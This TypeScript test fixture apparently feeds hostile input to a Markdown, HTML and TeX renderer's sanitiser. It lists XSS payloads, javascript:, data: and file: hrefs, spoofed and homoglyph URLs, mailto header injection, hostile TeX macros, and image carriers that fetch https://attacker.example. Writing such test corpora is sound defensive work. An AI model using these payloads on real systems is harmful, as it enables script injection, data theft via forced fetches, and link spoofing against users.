/** Twelve ways to make a renderer fetch an address on its own. */
export const IMAGE_CARRIERS = (origin: string): readonly string[] => [
  `![inline](${origin}/1.png?secret=1)`,
  `![reference][pic]\n\n[pic]: ${origin}/2.png`,
  `<img src="${origin}/3.png">`,
  `<img srcset="${origin}/4.png 2x">`,
  `<div style="background:url(${origin}/5.png)">x</div>`,
  `<svg><image href="${origin}/6.png"/></svg>`,
  `<video poster="${origin}/7.png"></video>`,
  `<link rel="preload" as="image" href="${origin}/8.png">`,
  `<iframe src="${origin}/9"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${origin}/10">`,
  `A page worth a preview: [title](${origin}/11)`,
  `${origin}/12.png and $\\color{url(${origin}/13)}{x}$`,
];

/** Addresses that try to run something, to leave the app, or to look like another address. */
export const HOSTILE_HREFS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\u0000script:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'filesystem:https://example.com/x',
  'intent://scan/#Intent;scheme=zxing;end',
  'android-app://com.example',
  'content://com.example/x',
  'skein://send?text=hi',
  'exp://127.0.0.1:8081',
  'tel:+123456789',
  'sms:+123456789?body=x',
  'facetime:someone',
  'itms-services://?action=download-manifest',
  'ftp://example.com',
  'ws://example.com',
  'view-source:https://example.com',
  'about:blank',
  '//evil.example',
  '/settings/providers',
  'https://google.com@evil.example/',
  'https://user:pass@evil.example/',
  'https://example.com/\u202egnp.exe',
  'https://аpple.com/',
  'https://exa\u200bmple.com/',
  'http://[::1',
  'https://',
  'mailto:victim@example.com?body=%0d%0aBcc:x@y.example',
];

const SCRIPTS = [
  '<script>__pwn()</script>',
  '<img src=x onerror=__pwn()>',
  '<img/src=`x`onerror=__pwn()>',
  '<svg onload=__pwn()>',
  '<svg><script>__pwn()</script></svg>',
  '<svg><animate onbegin=__pwn() attributeName=x dur=1s>',
  '<body onload=__pwn()>',
  '<iframe srcdoc="<script>parent.__pwn()</script>"></iframe>',
  '<iframe src="javascript:parent.__pwn()"></iframe>',
  '<object data="javascript:__pwn()"></object>',
  '<embed src="javascript:__pwn()">',
  '<a href="javascript:__pwn()" autofocus onfocus=__pwn()>x</a>',
  '<input autofocus onfocus=__pwn()>',
  '<details open ontoggle=__pwn()>x</details>',
  '<video><source onerror=__pwn()></video>',
  '<audio src=x onerror=__pwn()>',
  '<math><mi xlink:href="javascript:__pwn()">x</mi></math>',
  '<form action="javascript:__pwn()"><button>x</button></form>',
  '<style>@import "javascript:__pwn()"</style>',
  '<div style="width:expression(__pwn())">x</div>',
  '<marquee onstart=__pwn()>x</marquee>',
  '<template><script>__pwn()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn()>">',
  '"><script>__pwn()</script>',
  "'-__pwn()-'",
  '<scr<script>ipt>__pwn()</scr</script>ipt>',
  '<!--><img src=x onerror=__pwn()>-->',
  '<![CDATA[<script>__pwn()</script>]]>',
  '&lt;img src=x onerror=__pwn()&gt;',
  '&#60;script&#62;__pwn()&#60;/script&#62;',
];

/** Each script in every position where Markdown allows text. */
export const XSS_PAYLOADS: readonly string[] = SCRIPTS.flatMap((script) => [
  script,
  `**${script}**`,
  `[${script}](javascript:__pwn())`,
  `![${script}](x"onerror="__pwn())`,
  `\`\`\`"><img src=x onerror=__pwn()>\n${script}\n\`\`\``,
  `$\\text{${script.replace(/[$\\{}]/g, '')}}$`,
]);

/** Formulas that would be links, styles, scripts or new commands if TeX allowed them. */
export const HOSTILE_TEX: readonly string[] = [
  '$\\href{javascript:__pwn()}{x}$',
  '$\\url{javascript:__pwn()}$',
  '$\\href{https://attacker.example/tex}{y}$',
  '$$\\html{<img src=x onerror=__pwn()>}$$',
  '$\\htmlClass{a}{b}\\htmlStyle{background:url(https://attacker.example/style)}{c}$',
  '$\\class{x" onclick="__pwn()}{y}$',
  '$\\cssId{app}{z}\\style{color:red}{w}$',
  '$\\require{html}\\text{<script>__pwn()</script>}$',
  '$\\includegraphics{https://attacker.example/graphics.png}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$\\unicode[x]{60}\\char60 script\\char62$',
];

/** One message with all of the above. */
export const HOSTILE_MESSAGE = [
  ...SCRIPTS,
  ...HOSTILE_HREFS.map((href, n) => `[a link ${n}](${href})`),
  ...HOSTILE_HREFS.map((href) => `<a href="${href}" onmouseover="__pwn()">x</a>`),
  ...HOSTILE_TEX,
  ...IMAGE_CARRIERS('https://attacker.example'),
].join('\n\n');

/** Hostile text that is short enough for a name. */
export const HOSTILE_NAME = `"><img src=https://attacker.example/n onerror=__pwn()><script>__pwn()</script>[x](javascript:__pwn())`;
